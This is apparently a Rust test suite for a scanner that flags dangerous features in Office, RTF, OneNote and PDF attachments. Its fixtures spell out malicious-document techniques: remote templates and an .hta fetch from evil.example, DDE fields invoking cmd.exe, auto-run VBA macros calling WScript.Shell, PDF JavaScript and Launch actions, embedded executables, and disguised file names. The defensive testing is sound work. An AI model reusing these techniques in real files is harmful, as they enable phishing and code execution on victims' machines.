//! Office files, rich text and PDF files.

use chatward_attach::{Kind, Why};

use crate::made;
use crate::{has, ids, innocent, links, looked, texts, whys};

#[test]
fn an_innocent_document_gives_its_text_and_its_links() {
    let link = made::relation("hyperlink", "https://shop.example/returns");
    let verdict = innocent(
        "a.docx",
        &made::word("<w:t>Hello &amp; goodbye</w:t>", &[("word/_rels/document.xml.rels", &link)]),
    );
    assert_eq!(verdict.kind(), Kind::Word);
    assert_eq!(texts(&verdict), "Hello & goodbye");
    assert_eq!(links(&verdict), ["https://shop.example/returns"]);
    let local = made::relation("attachedTemplate", "file:///C:/Users/a/Normal.dotm");
    innocent("b.docx", &made::word("<w:t>x</w:t>", &[("word/_rels/settings.xml.rels", &local)]));
    let verdict = innocent(
        "a.odt",
        &made::zip(&[
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            (
                "content.xml",
                b"<o><text:p>Open <text:a xlink:href=\"https://a.example\">words</text:a></text:p></o>",
            ),
            ("META-INF/manifest.xml", b"<m/>"),
        ]),
    );
    assert_eq!((verdict.kind(), texts(&verdict).as_str()), (Kind::OpenDocument, "Open words"));
    assert_eq!(links(&verdict), ["https://a.example"]);
}

/// A zip that two small entries make a text document.
fn as_word(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let two: [(&str, &[u8]); 2] = [("[Content_Types].xml", b"<Types/>"), ("word/x.xml", b"<w/>")];
    made::zip(&[&two, parts].concat())
}

#[test]
fn two_small_entries_hide_no_scripts() {
    let script = b"<job><script language=\"JScript\">new ActiveXObject(1)</script></job>";
    let page = b"<html xmlns=\"http://www.w3.org/1999/xhtml\"><form><input type=\"password\"/></form></html>";
    for (name, bytes, id) in [
        ("invoice.hta", b"<html><hta:application id=x></html>".as_slice(), "file.script"),
        ("run.wsf", script, "file.script"),
        ("word/run.wsf", script, "file.script"),
        ("login.xhtml", page, "file.page-asks"),
        ("login.xml", page, "file.page-asks"),
        ("word/login.xml", page, "file.page-asks"),
        ("word/a.xml", b"<?xml version=\"1.0\"?><a xmlns:h='http://www.w3.org/1999/xhtm&#108;'><h:script>x</h:script></a>", "file.page-script"),
        ("word/a.xml", b"<!DOCTYPE a [<!ATTLIST b xmlns CDATA #FIXED 'x'>]><a><script>x</script></a>", "file.page-script"),
        ("customXml/a.svg", b"<svg onload='x()'/>", "file.page-script"),
        ("word/invoice.pdf.exe", b"<", "file.name-double-ending"),
        ("word/annual\u{202e}lmx.xml", b"<w/>", "file.name-turned"),
        ("word/fonts/font1.odttf", &made::program(), "file.program"),
        ("word/eicar.xml", &[b"<", made::eicar().as_slice()].concat(), "file.test-virus-quoted"),
    ] {
        has("invoice.docx", &as_word(&[(name, bytes)]), id);
    }
    let open: [(&str, &[u8]); 4] = [
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", b"<o xmlns:xhtml='http://www.w3.org/1999/xhtml'/>"),
        ("META-INF/manifest.xml", b"<m/>"),
        ("layout-cache", b"\x02\x00\x01"),
    ];
    innocent("a.odt", &made::zip(&open));
    has("a.odt", &made::zip(&[&open, [("x/run.wsf", script.as_slice())].as_slice()].concat()), "file.script");
    has(
        "a.odt",
        &made::zip(&[&open, [("content2.xml", b"<a><script>x</script></a>".as_slice())].as_slice()].concat()),
        "file.page-script",
    );
}

#[test]
fn every_part_of_a_document_is_looked_up_by_its_hashes() {
    let parts: [(&str, &[u8]); 3] = [
        ("docProps/app.xml", b"<Properties/>"),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/a.vml", b"<xml/>"),
    ];
    let verdict = innocent("a.docx", &as_word(&parts));
    let inside: Vec<&str> = verdict.inside.iter().map(|file| file.path.expose()).collect();
    assert_eq!(
        inside,
        [
            "a.docx",
            "a.docx/[Content_Types].xml",
            "a.docx/word/x.xml",
            "a.docx/docProps/app.xml",
            "a.docx/_rels/.rels",
            "a.docx/word/a.vml"
        ]
    );
    let hashes = chatward_attach::Hashes::of(b"<Properties/>");
    assert_eq!(verdict.inside[3].hashes, hashes);
    // They lie no deeper than the document.
    let mut bytes = as_word(&parts);
    for _ in 0..chatward_attach::Limits::default().depth {
        bytes = made::zip(&[("a", &bytes)]);
    }
    innocent("a.zip", &bytes);
}

#[test]
fn macros_are_told_by_what_they_do() {
    for (source, id) in [
        ("Sub Tidy()\r\nEnd Sub", "file.macro"),
        ("Sub AutoOpen()\r\nMsgBox 1\r\nEnd Sub", "file.macro-runs"),
        ("Sub Document_Open()\r\nCreateObject(\"WScript.Shell\")\r\nEnd Sub", "file.macro-acts"),
    ] {
        let project = made::project(source);
        has("a.docm", &made::word("<w:t>x</w:t>", &[("word/vbaProject.bin", &project)]), id);
        // Under another name, in a file that should have none.
        has("a.docx", &made::word("<w:t>x</w:t>", &[("word/theme/theme9.xml", &project)]), id);
        let old = made::compound(&[
            ("/WordDocument", b"doc"),
            ("/Macros/VBA/_VBA_PROJECT", b"x"),
            ("/Macros/VBA/One", &made::module(source)),
        ]);
        has("a.doc", &old, id);
    }
    innocent("a.doc", &made::compound(&[("/WordDocument", b"doc")]));
}

#[test]
fn macros_of_excel_4_are_told() {
    let sheet = [0x85, 0, 8, 0, 0, 0, 0, 0, 2, 1, 1, b'a'];
    let verdict = has("a.xls", &made::compound(&[("/Workbook", &sheet)]), "file.excel4-macro");
    assert_eq!(verdict.kind(), Kind::OldOffice);
    let plain = [0x85, 0, 8, 0, 0, 0, 0, 0, 0, 0, 1, b'a'];
    innocent("b.xls", &made::compound(&[("/Workbook", &plain)]));
    let parts: [(&str, &[u8]); 3] = [
        ("[Content_Types].xml", b"<T/>"),
        ("xl/workbook.xml", b"<w/>"),
        ("xl/macrosheets/sheet1.xml", b"<m/>"),
    ];
    has("a.xlsm", &made::zip(&parts), "file.excel4-macro");
}

#[test]
fn documents_that_fetch_or_start_something_are_told() {
    for (kind, target) in [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"),
        ("frame", "https://evil.example/f"),
        ("attachedTemplate", "\\\\evil.example\\t.dotm"),
    ] {
        let relation = made::relation(kind, target);
        let verdict = has(
            "a.docx",
            &made::word("<w:t>x</w:t>", &[("word/_rels/settings.xml.rels", &relation)]),
            "file.remote-template",
        );
        assert_eq!(links(&verdict), [target]);
    }
    let split = "<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe</w:instrText>";
    has("a.docx", &made::word(split, &[]), "file.dde");
    has("b.docx", &made::word("<w:fldSimple w:instr=\"DDE excel a\"/>", &[]), "file.dde");
    let sheets: [(&str, &[u8]); 4] = [
        ("[Content_Types].xml", b"<T/>"),
        ("xl/workbook.xml", b"<w/>"),
        ("xl/externalLinks/externalLink1.xml", b"<e><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></e>"),
        ("xl/worksheets/sheet1.xml", b"<s><row><c><f>1+2</f><v>3</v></c></row></s>"),
    ];
    has("a.xlsx", &made::zip(&sheets), "file.dde");
    has("a.docx", &made::word("<w:t>x</w:t>", &[("word/activeX/activeX1.bin", b"x")]), "file.activex");
    let equation = made::compound(&[("/Equation Native", b"x")]);
    has(
        "a.docx",
        &made::word("<w:t>x</w:t>", &[("word/embeddings/oleObject1.bin", &equation)]),
        "file.equation-object",
    );
    let wide: Vec<u8> = "http://evil.example/a.hta\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let verdict = has(
        "a.doc",
        &made::compound(&[("/WordDocument", b"x"), ("/ObjectPool/_1/\u{1}Ole", &wide)]),
        "file.remote-template",
    );
    assert_eq!(links(&verdict), ["http://evil.example/a.hta"]);
}

#[test]
fn files_in_documents_are_looked_into() {
    let object = made::compound(&[("/\u{1}Ole10Native", &made::packaged("run.exe", &made::program()))]);
    let verdict = has(
        "a.docx",
        &made::word("<w:t>x</w:t>", &[("word/embeddings/oleObject1.bin", &object)]),
        "file.program",
    );
    assert!(verdict.inside.iter().any(|file| file.path.expose().ends_with("oleObject1.bin/run.exe")));
    has(
        "a.msg",
        &made::compound(&[
            ("/__properties_version1.0", b"x"),
            ("/__attach_version1.0_#00000000/__substg1.0_37010102", &made::program()),
        ]),
        "file.program",
    );
    let mut note = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3 rest ".to_vec();
    note.extend_from_slice(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
    note.extend_from_slice(&256_u64.to_le_bytes());
    note.extend_from_slice(&[0; 12]);
    note.extend_from_slice(&made::program());
    has("a.one", &note, "file.program");
}

#[test]
fn locked_documents_are_told() {
    let verdict =
        looked("a.docx", &made::compound(&[("/EncryptedPackage", b"x"), ("/EncryptionInfo", b"y")]));
    assert_eq!(whys(&verdict), [Why::Encrypted]);
    assert!(verdict.has("file.encrypted"));
    let locked = made::pdf(&[b"<</Type/Catalog>>".to_vec()]);
    let locked = String::from_utf8(locked)
        .unwrap()
        .replace("/Root 1 0 R", "/Root 1 0 R/Encrypt<</Filter/Standard/V 4/R 4/O(x)/U(y)/P -1>>");
    let verdict = looked("a.pdf", locked.as_bytes());
    assert!(whys(&verdict).contains(&Why::Encrypted), "{:?} {:?}", ids(&verdict), whys(&verdict));
}

#[test]
fn rich_text_is_told_by_its_objects() {
    let hex = |bytes: &[u8]| bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>();
    let ole1 = |class: &str, data: &[u8]| {
        let mut out = vec![1, 5, 0, 0, 2, 0, 0, 0];
        out.extend_from_slice(&u32::try_from(class.len() + 1).unwrap().to_le_bytes());
        out.extend_from_slice(class.as_bytes());
        out.extend_from_slice(&[0; 9]);
        out.extend_from_slice(&u32::try_from(data.len()).unwrap().to_le_bytes());
        out.extend_from_slice(&data[4..]);
        out
    };
    let package = ole1("Package", &made::packaged("run.exe", &made::program()));
    let verdict = has(
        "a.rtf",
        format!("{{\\rtf1{{\\object{{\\*\\objdata {}}}}}}}", hex(&package)).as_bytes(),
        "file.program",
    );
    assert!(verdict.has("file.embedded-object"));
    let equation = ole1("Equation.3", b"0123456789");
    has(
        "b.rtf",
        format!("{{\\rtf1{{\\object{{\\*\\objdata {}}}}}}}", hex(&equation)).as_bytes(),
        "file.equation-object",
    );
    has("c.rtf", b"{\\rtf1{\\*\\template http://evil.example/t.dot}}", "file.remote-template");
    has("d.rtf", b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd.exe}}}", "file.dde");
    assert_eq!(
        texts(&innocent("e.rtf", b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}Hello {\\b bold} words\\par}")),
        "Hello bold words"
    );
}

#[test]
fn a_pdf_is_told_by_what_it_does() {
    let verdict = innocent("a.pdf", &made::page("hello from the page", "", &[]));
    assert_eq!(texts(&verdict), "hello from the page");
    for (catalogue, id) in [
        ("/OpenAction<</S/JavaScript/JS(app.alert)>>", "file.pdf-script-runs"),
        ("/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>", "file.pdf-script"),
        ("/OpenAction<</S/#4aavaS#63ript/#4a#53(x)>>", "file.pdf-script-runs"),
        ("/OpenAction<</S/Launch/F(cmd.exe)>>", "file.pdf-launch"),
        ("/X<</S/SubmitForm/F(http://a)>>", "file.pdf-sends"),
    ] {
        has("a.pdf", &made::page("x", catalogue, &[]), id);
    }
    // In an object stream, where only who unpacks it sees it.
    let objects = b"7 0 <</S/JavaScript/JS(x)>>";
    let packed = made::stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", &made::deflated(objects));
    has("a.pdf", &made::page("x", "/OpenAction 7 0 R", &[packed]), "file.pdf-script-runs");
    let link = made::page("x", "", &[b"<</S/URI/URI(https://shop.example/a)>>".to_vec()]);
    assert_eq!(links(&innocent("a.pdf", &link)), ["https://shop.example/a"]);
    let launches = b"this.exportDataObject({cName:'a', nLaunch:2})";
    has(
        "a.pdf",
        &made::page("x", "", &[made::stream("/Filter/FlateDecode", &made::deflated(launches))]),
        "file.pdf-launch",
    );
    let inside = made::stream("/Type/EmbeddedFile/Filter/FlateDecode", &made::deflated(&made::program()));
    assert!(has("a.pdf", &made::page("x", "", &[inside]), "file.embedded-object").has("file.program"));
}

/// A PDF file with a file inside that only `/EF` of object 5 leads to.
fn attached(head: &str, bytes: &[u8]) -> Vec<u8> {
    let named = b"<</Type/Filespec/F(a.bin)/UF(\xfe\xff\0r\0u\0n\0.\0v\0b\0s)/EF<</F 6 0 R>>>>".to_vec();
    made::page("x", "/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>", &[named, made::stream(head, bytes)])
}

#[test]
fn a_name_in_the_head_of_a_stream_hides_no_file() {
    let eicar = made::deflated(&made::eicar());
    for head in [
        "/Filter/FlateDecode",
        "/X/DCTDecode/Filter/FlateDecode",
        "/X/LZWDecode/Filter/FlateDecode",
        "/X[/JPXDecode]/Filter[/FlateDecode]",
        "/Type/EmbeddedFile/X/DCTDecode/Filter/FlateDecode",
        "/Filter[/FlateDecode/DCTDecode]",
    ] {
        has("a.pdf", &attached(head, &eicar), "file.test-virus");
        has("a.pdf", &attached(head, &made::deflated(&made::program())), "file.program");
    }
    has("a.pdf", &attached("/Filter/DCTDecode", &made::program()), "file.program");
    // Without a way to it by the tables.
    let loose = made::stream("/X/DCTDecode/Filter/FlateDecode", &made::deflated(&made::program()));
    has("a.pdf", &made::page("x", "", &[loose]), "file.program");
}

#[test]
fn a_file_in_a_pdf_is_looked_into_under_its_name() {
    let verdict =
        has("a.pdf", &attached("/Filter/FlateDecode", &made::deflated(b"words = 1")), "file.script");
    assert!(verdict.inside.iter().any(|file| file.path.expose() == "a.pdf/run.vbs"));
    assert!(verdict.has("file.embedded-object"));
    let page = b"<html><form><input type=password>";
    has("a.pdf", &attached("/Filter/FlateDecode", &made::deflated(page)), "file.page-asks");
    // Where the filter stands somewhere else.
    let elsewhere = made::page(
        "x",
        "",
        &[
            b"<</Type/Filespec/F(e)/EF<</F 6 0 R>>>>".to_vec(),
            made::stream("/Filter[7 0 R 8 0 R]", &{
                let hex = made::deflated(b"<html><form><input type=password>");
                hex.iter()
                    .flat_map(|byte| format!("{byte:02x}").into_bytes())
                    .chain(*b">")
                    .collect::<Vec<_>>()
            }),
            b"/ASCIIHexDecode".to_vec(),
            b"/FlateDecode".to_vec(),
        ],
    );
    has("a.pdf", &elsewhere, "file.page-asks");
}

#[test]
fn a_broken_pdf_is_read_as_far_as_it_goes() {
    let whole = made::page("x", "/OpenAction<</S/JavaScript/JS(x)>>", &[]);
    let cut = &whole[..whole.len() - 150];
    let verdict = has("a.pdf", cut, "file.pdf-script-runs");
    assert!(!verdict.inside.is_empty());
}
